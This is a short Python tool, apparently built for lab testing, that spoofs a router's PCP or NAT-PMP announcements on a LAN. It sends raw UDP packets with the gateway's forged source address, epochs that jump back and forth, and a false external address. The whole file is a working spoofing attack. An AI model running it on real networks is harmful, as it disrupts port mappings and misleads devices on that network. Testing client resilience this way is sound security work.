#!/usr/bin/env python3
"""Forges the router's PCP or NAT-PMP announcements on the lab's LAN, as a hostile device would: raw IPv4/UDP
packets whose source is the gateway's own address and server port (192.0.2.1:5351), multicast to 224.0.0.1:5350,
with epochs that jump back to zero and far ahead in turn. Runs in a lab namespace only.

  forge.py --protocol pcp|pmp --gateway 192.0.2.1 --count 30 --interval 0.2
"""
import argparse
import socket
import struct
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packet(source, source_port, destination, destination_port, payload):
    udp_length = 8 + len(payload)
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!BBH", 0, 17, udp_length)
    udp = struct.pack("!HHHH", source_port, destination_port, udp_length, 0) + payload
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xffff) + udp[8:]
    total = 20 + len(udp)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0, 1, 17, 0, socket.inet_aton(source),
                         socket.inet_aton(destination))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + udp


def announcement(protocol, epoch):
    if protocol == "pcp":
        # Version 2, ANNOUNCE response (opcode 0x80), result 0, lifetime 0, epoch, 12 reserved octets.
        return bytes([2, 0x80, 0, 0]) + struct.pack("!II", 0, epoch) + bytes(12)
    # Version 0, external address response (opcode 128), result 0, epoch, a claimed address.
    return bytes([0, 128, 0, 0]) + struct.pack("!I", epoch) + socket.inet_aton("6.6.6.6")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--protocol", choices=["pcp", "pmp"], required=True)
    parser.add_argument("--gateway", required=True)
    parser.add_argument("--count", type=int, default=30)
    parser.add_argument("--interval", type=float, default=0.2)
    args = parser.parse_args()
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
    for i in range(args.count):
        epoch = 0 if i % 2 == 0 else 4000000000
        sender.sendto(packet(args.gateway, 5351, "224.0.0.1", 5350, announcement(args.protocol, epoch)),
                      ("224.0.0.1", 0))
        time.sleep(args.interval)
    print("forged %d %s announcements from %s:5351" % (args.count, args.protocol, args.gateway), flush=True)


if __name__ == "__main__":
    main()
